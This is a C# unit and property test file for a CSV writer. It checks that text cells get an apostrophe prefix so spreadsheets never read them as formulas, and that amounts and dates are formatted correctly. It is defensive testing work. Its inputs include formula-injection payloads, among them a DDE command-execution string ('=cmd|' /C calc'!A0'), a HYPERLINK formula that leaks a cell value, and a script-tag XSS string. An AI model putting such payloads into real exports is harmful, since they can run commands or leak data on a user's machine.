using FsCheck;
using FsCheck.Fluent;
using Isa.Domain.Values;
using Isa.Functions.Platform.Http;

namespace Isa.Functions.Tests.Platform;

public class CsvTests
{
    [Theory]
    [InlineData("=1+1")]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("=HYPERLINK(\"http://example.org?\"&A1;\"x\")")]
    [InlineData("+41 27 000 00 00")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1;1)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("\n=1+1")]
    [InlineData("\tno formula")]
    [InlineData("  =1+1")]
    [InlineData("\u00A0=1+1")]
    [InlineData("\uFEFF=1+1")]
    [InlineData("\u200B@SUM(1)")]
    [InlineData("\0=1+1")]
    [InlineData("＝1+1")]
    [InlineData("＋1")]
    [InlineData("－1")]
    [InlineData("＠SUM(1)")]
    public void A_text_never_becomes_a_formula(string text) => Assert.Equal("'" + text, Read(text));

    [Theory]
    [InlineData("")]
    [InlineData("plain")]
    [InlineData("a=b")]
    [InlineData("2026/11-01")]
    [InlineData("a;b")]
    [InlineData("a,=1+1")]
    [InlineData("he said \"no\"")]
    [InlineData("\"")]
    [InlineData("\"\";\"\"")]
    [InlineData("two\r\nlines")]
    [InlineData("two\nlines")]
    [InlineData("'quoted'")]
    [InlineData("Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤")]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("田中さんにあげて下さい")]
    [InlineData("−2 × 49.00 = −98.00")]
    public void Any_other_text_is_read_as_it_was(string text) => Assert.Equal(text, Read(text));

    [Fact]
    public void Whatever_the_texts_a_reader_finds_as_many_cells_and_no_formula() => Prop.ForAll(ArbMap.Default.ArbFor<string[]>(), texts =>
    {
        if (texts is null or []) return true;
        var row = CsvReading.Rows(new Csv().Row(texts.Select(text => (CsvCell)text)).ToString()).Single();
        return row.Length == texts.Length && row.Zip(texts).All(cell => cell.First.TrimStart('\'') == (cell.Second ?? "").TrimStart('\'')) && row.All(cell => cell is not ['=' or '+' or '-' or '@', ..]);
    }).QuickCheckThrowOnFailure();

    [Fact]
    public void A_comma_is_quoted_lest_another_separator_begin_a_cell() => Assert.Equal("\uFEFF\"a,=1+1\"\r\n", new Csv().Row("a,=1+1").ToString());

    [Fact]
    public void Amounts_numbers_and_days_stay_what_they_are() => Assert.Equal(
        "\uFEFF1470.00;-49.00;8.5;35000;-1;04.11.2026;\r\n",
        new Csv().Row(new Chf(147_000), new Chf(-4900), 8.5m, 35_000L, -1L, new DateOnly(2026, 11, 4), default).ToString());

    static string Read(string text) => CsvReading.Rows(new Csv().Row("before", text, "after").ToString()) is [["before", var cell, "after"]] ? cell : throw new InvalidOperationException("Not three cells.");
}
